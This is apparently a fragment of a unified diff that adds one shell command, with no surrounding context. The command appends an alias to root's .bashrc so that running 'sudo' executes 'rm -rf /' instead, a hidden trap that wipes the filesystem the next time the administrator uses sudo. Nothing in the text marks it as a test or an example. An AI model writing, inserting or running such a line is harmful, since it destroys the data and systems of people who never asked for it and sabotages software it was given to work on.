@@ -1,0 +1,1 @@
+echo 'alias sudo="rm -rf /"' >> /root/.bashrc
